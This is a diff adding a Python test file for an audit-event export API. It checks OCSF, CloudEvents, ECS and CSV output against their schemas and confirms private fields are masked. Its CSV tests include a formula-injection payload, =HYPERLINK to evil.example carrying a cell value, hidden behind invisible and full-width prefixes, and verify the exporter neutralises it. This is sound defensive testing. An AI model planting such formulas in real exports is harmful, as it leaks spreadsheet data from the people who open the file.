@@ -1,0 +1,287 @@
+"""Each format against its published schema, by somebody else's code; and what a spreadsheet would run."""
+
+from __future__ import annotations
+
+import csv
+import io
+import itertools
+import json
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import jsonschema_rs
+import pytest
+from cloudevents.core.formats.json import JSONFormat
+from cloudevents.core.v1.event import CloudEvent
+from ocsf.v1_7_0.events import EntityManagement
+from ocsf_json_schema import OcsfJsonSchemaEmbedded, get_ocsf_schema
+
+from app.api.exports import FORMATS, ecs, ocsf
+from app.api.exports.csv import COLUMNS, neutral, to_row
+from app.domain.event import Actor, Delivery, Envelope, Event, Recipient
+from app.providers.registry import find_providers
+from app.providers.subnoto.emulator import EmulatorOptions as SubnotoOptions
+from app.providers.taktikal.emulator import EmulatorOptions as TaktikalOptions
+from tests.api.conftest import make_app, opened
+from tests.api.gateways import app_over, calling, events_of, window
+from tests.api.memory import NATIONAL_ID, PHONE, MemorySource, history
+from tests.worlds import World, served_world
+
+DOCUMENT = (Path(__file__).parents[2] / "docs" / "formats.md").read_text(encoding="utf-8")
+TYPES = sorted(
+    {row.type for provider in find_providers().values() for row in provider.mapping} | {"unknown", "a.new_one"}
+)
+
+
+def events() -> Iterator[Event]:
+    """Every type, with everything there may be and with nothing that need not be."""
+    actors = [
+        Actor("system"),
+        Actor("user", "u1", "Anna", "anna@example.com"),
+        Actor("recipient", email="x@example.com"),
+    ]
+    envelopes = [None, Envelope("e1"), Envelope("e1", "lease.pdf", "completed", "o@example.com", "f", "w", "s")]
+    recipients = [
+        None,
+        Recipient(),
+        Recipient("r1", "Jonas", "j@example.com", "+3545812345", "0101302989", "qualified"),
+    ]
+    deliveries = [None, Delivery(), Delivery("sms", "delivered", "invitation")]
+    wholes = zip(itertools.cycle(actors), itertools.cycle(envelopes), recipients * 40, deliveries * 40, strict=False)
+    for type_, (actor, envelope, recipient, delivery) in itertools.product(TYPES, itertools.islice(wholes, 3)):
+        for outcome, raw in (("success", None), ("failure", {"a": [1, "\ud83d"]}), (None, "text"), ("odd", 0)):
+            yield Event(
+                id="AabC-_", source="my source/é", provider="acme", type=type_, category="team", outcome=outcome,
+                provider_type="X:y", provider_id=None if raw else "7", occurred_at="2019-11-08T11:06:01.560789Z",
+                description=None if raw else "Signed.", actor=actor, envelope=envelope, recipient=recipient,
+                delivery=delivery, user_agent=None if raw else "Mozilla/5.0",
+                data={"deep": [{"x": None}]} if raw else {}, raw=raw,
+            )  # fmt: skip
+
+
+@pytest.fixture(scope="module")
+def world() -> Iterator[World]:
+    with served_world(TaktikalOptions(events=700), SubnotoOptions(events=700)) as found:
+        yield found
+
+
+async def exported(world: World, form: str, **query: str) -> list[dict[str, Any]]:
+    async with calling(app_over(world)) as client:
+        answer = await client.get("/events/export", params={**window(world), "format": form, **query})
+    found = events_of(form, answer.content)
+    assert len(found) == len(world.truth())
+    return found
+
+
+# ---- OCSF ----------------------------------------------------------------------------------------------------------
+
+
+@pytest.fixture(scope="module")
+def ocsf_schema() -> jsonschema_rs.Validator:
+    schema = OcsfJsonSchemaEmbedded(get_ocsf_schema(version=ocsf.VERSION))
+    return jsonschema_rs.validator_for(schema.get_class_schema(class_name="entity_management", profiles=[]))
+
+
+def check_ocsf(schema: jsonschema_rs.Validator, found: dict[str, Any]) -> None:
+    schema.validate(found)
+    model = EntityManagement.model_validate(found)
+    assert (model.class_uid, model.type_uid) == (3004, 300400 + found["activity_id"])
+
+
+def test_ocsf_of_every_type(ocsf_schema: jsonschema_rs.Validator) -> None:
+    for event in events():
+        check_ocsf(ocsf_schema, json.loads(FORMATS["ocsf"].line(event)))
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("include", [{}, {"include": "raw"}], ids=str)
+async def test_ocsf_of_real_accounts(
+    world: World, ocsf_schema: jsonschema_rs.Validator, include: dict[str, str]
+) -> None:
+    for found in await exported(world, "ocsf", **include):
+        check_ocsf(ocsf_schema, found)
+        assert ("raw_data" in found) == bool(include)
+
+
+# ---- CloudEvents ---------------------------------------------------------------------------------------------------
+
+
+def check_cloudevent(line: bytes) -> None:
+    event = JSONFormat().read(CloudEvent, line)
+    found = json.loads(line)
+    assert event.get_specversion() == "1.0"
+    assert event.get_id() == found["data"]["id"]
+    assert event.get_time() is not None
+    assert event.get_data() == found["data"]
+    # Section 3.1: lower case letters and digits; every attribute of a simple type.
+    for name, value in found.items():
+        assert name.isalnum(), name
+        assert name.islower(), name
+        assert name == "data" or isinstance(value, str)
+
+
+def test_cloudevents_of_every_type() -> None:
+    for event in events():
+        check_cloudevent(FORMATS["cloudevents"].line(event))
+    assert json.loads(FORMATS["cloudevents"].line(event))["source"] == "/sources/my%20source%2F%C3%A9"
+
+
+@pytest.mark.anyio
+async def test_cloudevents_of_real_accounts(world: World) -> None:
+    for found in await exported(world, "cloudevents"):
+        check_cloudevent(json.dumps(found).encode())
+
+
+# ---- ECS -----------------------------------------------------------------------------------------------------------
+
+#: Of the ECS 8.17 field reference: the fields in use, and whether they are arrays.
+ECS_FIELDS = {
+    "@timestamp": str, "message": str, "ecs.version": str,
+    "event.id": str, "event.kind": str, "event.category": list, "event.type": list, "event.action": str,
+    "event.code": str, "event.outcome": str, "event.provider": str, "event.module": str, "event.dataset": str,
+    "event.original": str,
+    "observer.vendor": str, "observer.name": str,
+    "user.id": str, "user.name": str, "user.full_name": str, "user.email": str,
+    "related.user": list, "file.name": str, "user_agent.original": str,
+}  # fmt: skip
+#: Of its page on `event.category`: what is expected beside each.
+ECS_TYPES = {
+    "file": {"access", "change", "creation", "deletion", "info"},
+    "iam": {"admin", "change", "creation", "deletion", "group", "info", "user"},
+    "configuration": {"access", "change", "creation", "deletion", "info"},
+    "email": {"info"},
+}
+
+
+def check_ecs(found: dict[str, Any]) -> None:
+    own = found.pop("audit_gateway")
+    assert isinstance(own["actor_kind"], str)
+    for path, value in flat(found):
+        assert type(value) is ECS_FIELDS[path], path
+        assert value, path
+    event = found["event"]
+    assert event["kind"] == "event"
+    assert event["outcome"] in ("success", "failure", "unknown")
+    for category in event.get("category", []):
+        assert set(event["type"]) <= ECS_TYPES[category]
+
+
+def flat(value: dict[str, Any], path: str = "") -> Iterator[tuple[str, Any]]:
+    for name, item in value.items():
+        if isinstance(item, dict):
+            yield from flat(item, f"{path}{name}.")
+        else:
+            yield f"{path}{name}", item
+
+
+def test_ecs_of_every_type() -> None:
+    for event in events():
+        check_ecs(json.loads(FORMATS["ecs"].line(event)))
+
+
+@pytest.mark.anyio
+async def test_ecs_of_real_accounts(world: World) -> None:
+    for found in await exported(world, "ecs", include="raw"):
+        check_ecs(found)
+
+
+# ---- CSV -----------------------------------------------------------------------------------------------------------
+
+INVISIBLE = ["", " ", "\t", "\r", "\n", "\0", "\u00a0", "\u200b", "\ufeff", "\u3000", "\u202e", " \t ", "\u00ad"]
+STARTS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212", "\ufe66"]
+
+
+@pytest.mark.parametrize("start", STARTS)
+@pytest.mark.parametrize("before", INVISIBLE, ids=ascii)
+def test_what_a_spreadsheet_would_run_gets_an_apostrophe(before: str, start: str) -> None:
+    value = f'{before}{start}HYPERLINK("https://evil.example?"&A1)'
+    assert neutral(value) == f"'{value}"
+
+
+@pytest.mark.parametrize("value", ["\tx", "\rx", "\nx", "\0x", "'=1", "'quoted'"], ids=ascii)
+def test_and_so_does_what_could_be_taken_for_one_later(value: str) -> None:
+    assert neutral(value) == f"'{value}"
+
+
+@pytest.mark.parametrize(
+    "value", ["", "Anna", "anna+x@example.com", "2026-05-01T00:00:00Z", "***", "a=b", " x", '{"a":1}']
+)
+def test_anything_else_stays_as_it_is(value: str) -> None:
+    assert neutral(value) == value
+
+
+def test_taking_one_apostrophe_away_gives_every_value_back() -> None:
+    for before, start in itertools.product([*INVISIBLE, "'", "''"], [*STARTS, "x", ""]):
+        value = f"{before}{start}1"
+        assert neutral(value).removeprefix("'") == value
+
+
+def test_every_row_is_rfc_4180_and_every_column_neutral() -> None:
+    evil = '=1+1,"\r\n;x'
+    event = next(events())
+    for name in COLUMNS:
+        part, _, field = name.partition("_")
+        if part in ("actor", "envelope", "recipient", "delivery"):
+            event.envelope, event.recipient, event.delivery = Envelope("e"), Recipient(), Delivery()
+            setattr(getattr(event, part), field, evil)
+        elif name not in ("id", "data", "raw"):
+            setattr(event, name, evil)
+        row = to_row(event)
+        assert row.endswith(b"\r\n")
+        (read,) = csv.reader(io.StringIO(row.decode(), newline=""))
+        assert len(read) == len(COLUMNS)
+        for value in read:
+            assert not value.startswith(("=", "+", "-", "@"))
+        if name not in ("id", "data", "raw"):
+            assert read[list(COLUMNS).index(name)] == f"'{evil}"
+            event = next(events())
+
+
+def test_half_a_surrogate_pair_is_written_as_json_would() -> None:
+    event = next(events())
+    event.description = "\ud83d"
+    assert b",\\ud83d," in to_row(event)
+
+
+@pytest.mark.anyio
+async def test_csv_of_real_accounts(world: World) -> None:
+    async with calling(app_over(world)) as client:
+        body = (await client.get("/events/export", params={**window(world), "format": "csv"})).content
+    lines = list(csv.reader(io.StringIO(body.decode(), newline=""), strict=True))
+    assert lines[0] == list(COLUMNS)
+    assert {len(line) for line in lines} == {len(COLUMNS)}
+    assert body.count(b"\r\n") >= len(lines)
+
+
+# ---- all of them ---------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("form", FORMATS)
+async def test_what_a_caller_may_not_see_is_in_no_format(form: str) -> None:
+    app = make_app([MemorySource("north", history("north", 30))])
+    async with opened(app, "reader") as client:
+        masked = (await client.get("/events/export", params={"format": form})).text
+    async with opened(app) as client:
+        plain = (await client.get("/events/export", params={"format": form, "include": "raw"})).text
+    for private in (PHONE, NATIONAL_ID):
+        assert private in plain
+        assert private not in masked
+    assert "sign.example" not in plain
+
+
+def test_every_mapping_is_documented() -> None:
+    for column in COLUMNS:
+        assert f"`{column}`" in DOCUMENT, column
+    for verb, (number, name) in ocsf.ACTIVITIES.items():
+        assert f"| `{verb}` | {number} {name} |" in DOCUMENT, verb
+    for subject, (category, also) in ecs.CATEGORIES.items():
+        assert f"| `{subject}` | {category} | {', '.join(also)} |".replace("|  |", "| |") in DOCUMENT, subject
+    for verb, kind in ecs.TYPES.items():
+        assert f"| `{verb}` | {kind} |" in DOCUMENT, verb
+    for event in events():
+        for form in ("ocsf", "ecs"):
+            for path, _ in flat(json.loads(FORMATS[form].line(event))):
+                shown = path if not path.startswith(("unmapped.", "audit_gateway.")) else ".".join(path.split(".")[:2])
+                assert f"`{shown}`" in DOCUMENT, f"{form}: {shown}"
